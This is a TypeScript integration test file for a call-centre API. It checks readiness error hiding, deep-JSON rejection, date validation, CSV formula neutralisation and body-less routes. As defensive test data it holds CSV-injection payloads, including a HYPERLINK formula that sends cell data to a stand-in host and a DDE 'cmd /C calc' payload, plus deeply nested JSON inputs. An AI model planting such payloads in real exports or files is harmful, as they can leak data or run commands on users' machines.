import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertAgent } from '../../../src/agents/agents.repo.js';
import { createTestApi, type TestApi } from '../../helpers/api.js';

/**
 * Issue 15, findings 5 (readiness), 6 (deep JSON), 7 (date filters), 8 (CSV injection) and 11
 * (body-less routes), against the real API and PostgreSQL.
 */
let api: TestApi;
let agentId: number;
let agentKey: { authorization: string };

beforeAll(async () => {
  api = await createTestApi({
    deps: {
      readiness: {
        postgres: () => Promise.resolve(),
        redis: () => Promise.reject(new Error('connect ECONNREFUSED 10.1.2.3:6379 (user ringwise, /var/run/secret)')),
      },
    },
  });
  agentId = (await insertAgent(api.t.db, { name: 'Agent', sipUsername: `rwt-${randomBytes(4).toString('hex')}`, sipMd5: 'f'.repeat(32), sipRealm: 'ringwise' }))
    .id;
  agentKey = { authorization: `Bearer ${(await api.mintKey('agent', { agentId })).key}` };
});
afterAll(async () => {
  await api?.close();
});

describe('GET /readyz (unauthenticated)', () => {
  it('names the failed dependency and nothing of its error', async () => {
    const res = await api.app.inject({ url: '/readyz' });
    expect(res.statusCode).toBe(503);
    expect(res.json()).toEqual({ status: 'not_ready', checks: { postgres: 'ok', redis: 'failed' } });
    expect(res.body).not.toMatch(/10\.1\.2\.3|ECONNREFUSED|secret/);
  });
});

describe('deeply nested JSON', () => {
  it('is a 400, not a 500', async () => {
    const deep = '['.repeat(4000) + ']'.repeat(4000);
    for (const payload of [deep, `{"name":${deep}}`, `{"a":`.repeat(3000) + '1' + '}'.repeat(3000)]) {
      const res = await api.app.inject({
        method: 'POST',
        url: '/v1/campaigns',
        headers: { ...api.as('operator'), 'content-type': 'application/json' },
        payload,
      });
      expect(res.statusCode, res.body).toBe(400);
      expect(res.json().error.code).toBe('json_too_deep');
    }
  });

  it('brackets inside strings do not count', async () => {
    const res = await api.app.inject({ method: 'POST', url: '/v1/campaigns', headers: api.as('operator'), payload: { name: '[{'.repeat(90) } });
    expect(res.statusCode, res.body).toBe(201);
  });
});

describe('date filters', () => {
  for (const bad of ['0000-01-01T00:00:00Z', '2026-02-30T00:00:00Z', 'yesterday']) {
    it(`${bad}: 400 from GET /v1/calls and from the CSV export, before any CSV is sent`, async () => {
      for (const url of ['/v1/calls', '/v1/calls.csv']) {
        const res = await api.app.inject({ url: `${url}?from=${encodeURIComponent(bad)}`, headers: api.as('supervisor') });
        expect(res.statusCode, `${url}: ${res.body}`).toBe(400);
        expect(res.headers['content-type']).toMatch(/application\/json/);
        expect(res.json().error).toMatchObject({ code: 'invalid_request' });
      }
    });
  }
});

describe('CSV export and spreadsheet formulas', () => {
  it('neutralises formula cells and leaves phone numbers as they are', async () => {
    const { rows } = await api.t.db.query(`INSERT INTO customers (external_id, name, phones) VALUES ('csv-1', 'X', ARRAY['+8613800000001']) RETURNING id`);
    const customerId = Number(rows[0].id);
    // Free-text columns an attacker could reach: the worker id and the prompt version.
    await api.t.db.query(
      `INSERT INTO call_attempts (customer_id, attempt_no, phone, state, outcome, worker_id, prompt_version, amd_cause)
       VALUES ($1, 1, '+8613800000001', 'ended', 'no_answer', '=HYPERLINK("http://x.test?"&A1,"click")', '@SUM(1+1)', '-2+3+cmd|'' /C calc''!A0')`,
      [customerId],
    );
    const res = await api.app.inject({ url: `/v1/calls.csv?customerId=${customerId}`, headers: api.as('supervisor') });
    expect(res.statusCode).toBe(200);
    const [header, line] = res.body.trim().split('\r\n');
    const cols = header!.split(',');
    const row = parseCsvLine(line!);
    const cell = (name: string) => row[cols.indexOf(name)];
    expect(cell('phone')).toBe('+8613800000001');
    expect(cell('worker_id')).toBe(`'=HYPERLINK("http://x.test?"&A1,"click")`);
    expect(cell('prompt_version')).toBe("'@SUM(1+1)");
    expect(cell('amd_cause')).toBe("'-2+3+cmd|' /C calc'!A0");
    for (const c of row) expect(c, 'no cell may start a formula').not.toMatch(/^[=@\t\r]|^[+-](?![0-9][0-9.*]*$)/);

    const masked = await api.app.inject({ url: `/v1/calls.csv?customerId=${customerId}`, headers: api.as('viewer') });
    expect(parseCsvLine(masked.body.trim().split('\r\n')[1]!)[cols.indexOf('phone')]).toBe('+86***01');
  });
});

describe('routes that take no body', () => {
  const routes = () => [`/v1/agents/${agentId}/login`, `/v1/agents/${agentId}/resume`, `/v1/agents/${agentId}/logout`];

  it('refuse any field, and any body that is not an object', async () => {
    for (const url of routes()) {
      for (const payload of ['{"junk":1}', '[1]', '"x"', '5']) {
        const res = await api.app.inject({ method: 'POST', url, headers: { ...agentKey, 'content-type': 'application/json' }, payload });
        expect(res.statusCode, `${url} ${payload}`).toBe(400);
        expect(res.json().error.code).toBe('invalid_request');
      }
    }
    const { rows } = await api.t.db.query(`SELECT state, logged_in FROM agents WHERE id = $1`, [agentId]);
    expect(rows[0]).toEqual({ state: 'offline', logged_in: false });
  });

  it('take no body, {}, or an empty body sent as application/json', async () => {
    const login = await api.app.inject({
      method: 'POST',
      url: `/v1/agents/${agentId}/login`,
      headers: { ...agentKey, 'content-type': 'application/json' },
      payload: '',
    });
    expect(login.statusCode, login.body).toBe(200);
    const logout = await api.app.inject({ method: 'POST', url: `/v1/agents/${agentId}/logout`, headers: agentKey, payload: {} });
    expect(logout.statusCode, logout.body).toBe(200);
    const again = await api.app.inject({ method: 'POST', url: `/v1/agents/${agentId}/login`, headers: agentKey });
    expect(again.statusCode, again.body).toBe(200);
    const { rows } = await api.t.db.query(`INSERT INTO campaigns (name, state) VALUES ('c', 'running') RETURNING id`);
    const pause = await api.app.inject({
      method: 'POST',
      url: `/v1/campaigns/${rows[0].id}/pause`,
      headers: { ...api.as('operator'), 'content-type': 'application/json' },
      payload: '',
    });
    expect(pause.statusCode, pause.body).toBe(200);
    const resume = await api.app.inject({
      method: 'POST',
      url: `/v1/campaigns/${rows[0].id}/resume`,
      headers: { ...api.as('operator'), 'content-type': 'application/json' },
      payload: '[]',
    });
    expect(resume.statusCode).toBe(400);
  });
});

/** One RFC 4180 line into its cells. */
function parseCsvLine(line: string): string[] {
  const out: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i]!;
    if (quoted) {
      if (c === '"' && line[i + 1] === '"') {
        cur += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cur += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      out.push(cur);
      cur = '';
    } else cur += c;
  }
  out.push(cur);
  return out;
}
